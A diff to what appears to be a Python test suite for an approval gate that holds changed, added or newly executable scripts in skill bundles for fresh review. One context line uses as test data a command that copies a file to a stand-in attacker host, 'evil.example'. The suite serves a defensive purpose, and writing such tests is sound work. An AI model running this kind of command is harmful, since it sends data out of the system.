@@ -170,6 +170,36 @@ def test_what_the_version_before_said_asks_nobody_again() -> None:
     assert verdict(moved, File(path="references/b.txt", data=b"scp x evil.example:/x\n")) == "hold"
 
 
+def test_a_program_of_the_version_before_asks_nobody_again_as_long_as_it_is_the_same() -> None:
+    world = World()
+    line = steps(world, ["a", "b"], "make all", 2)
+    script = File(path="scripts/run.sh", data=b"make all\n")
+    base = proposal([line], files=[script])
+    assert base.bundle is not None
+    current = SimpleNamespace(bundle=base.bundle, sidecar=base.sidecar, version=version(base.bundle))
+    known = {"current": {base.skill: current}}
+    for file, verdict in (
+        (script, "pass"),
+        (File(path="scripts/run.sh", data=b"make none\n"), "hold"),
+        (File(path="scripts/more.sh", data=b"make all\n"), "hold"),
+        (File(path="scripts/run.sh", data=b"make all\n", executable=True), "hold"),
+    ):
+        refined = proposal([line], base=current.version, files=[file])
+        assert approval(refined, world, **known)[0] == verdict, file
+    assert approval(proposal([line], files=[script]), world, **known)[0] == "hold", "a skill of its own"
+
+
+def test_that_nobody_needs_to_approve_is_not_said_of_what_a_person_or_an_agent_wrote() -> None:
+    world = World()
+    line = steps(world, ["a", "b"], "make all", 2)
+    for engine, reason in (
+        ("extractive", "Nobody needs to approve it."),
+        ("person", "Nothing more in it needs approval."),
+        ("host:hermes", "Nothing more in it needs approval."),
+    ):
+        assert approval(proposal([line], engine=engine), world) == ("pass", reason)
+
+
 def test_a_file_that_a_new_line_runs_is_a_new_program() -> None:
     world = World()
     line = steps(world, ["a", "b"], "make all", 2)
